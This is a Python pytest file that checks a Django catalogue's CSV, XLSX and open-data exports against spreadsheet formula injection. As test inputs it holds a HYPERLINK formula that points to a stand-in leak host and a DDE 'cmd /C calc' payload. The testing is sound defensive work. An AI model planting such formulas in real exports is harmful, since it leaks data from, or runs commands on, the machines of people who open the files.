"""Exports never hand a spreadsheet a formula planted in a name ("CSV injection", OWASP): CSV cells are
neutralised, workbook cells are written as text; numbers and dates stay numbers and dates."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse

from ocop.catalog.tests.helpers import certified_product
from ocop.core.exporting import formula_safe

pytestmark = pytest.mark.django_db
PLANTED = '=HYPERLINK("http://x.example/?leak","Xem")'


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (PLANTED, "'" + PLANTED), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-5", "-5"),
        ("+84 912 345 678", "+84 912 345 678"), ("Mật ong", "Mật ong"), ("", ""),
    ],
)  # fmt: skip
def test_formula_safe_neutralises_what_a_spreadsheet_would_run(value, safe):
    assert formula_safe(value) == safe


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/"))


def test_every_export_neutralises_a_planted_formula(client, settings, tmp_path):
    settings.OCOP_OPENDATA_DIR = tmp_path / "opendata"
    product = certified_product(PLANTED, stars=4)
    rows = list(csv.reader(io.StringIO(client.get(reverse("site:product-export", args=["csv"])).getvalue().decode())))
    assert [cell for row in rows for cell in row if "HYPERLINK" in cell] == ["'" + PLANTED]
    assert any(cell == "4" for row in rows for cell in row)  # the stars stay a number
    xlsx = client.get(reverse("site:product-export", args=["xlsx"])).content
    sheet = _sheet_xml(xlsx)
    assert "<f>" not in sheet and "HYPERLINK" in sheet  # stored as text (an inline string), not as a formula
    province = product.producer.province
    report = client.get(reverse("dashboards:province-report", args=[province.slug, "xlsx"])).content
    assert "<f>" not in _sheet_xml(report)
    products = client.get(reverse("dashboards:province-products", args=[province.slug, "csv"])).getvalue().decode()
    assert PLANTED not in products.replace("'" + PLANTED, "")
    call_command("opendata_dump", verbosity=0)
    opened = client.get("/du-lieu-mo/products.csv").getvalue().decode("utf-8-sig")
    names = [row["name"] for row in csv.DictReader(io.StringIO(opened))]
    assert names == ["'" + PLANTED]
    lines = b"".join(client.get("/du-lieu-mo/products.jsonl").streaming_content).decode()
    assert PLANTED.replace('"', '\\"') in lines  # JSON keeps the name as it is: no spreadsheet opens it
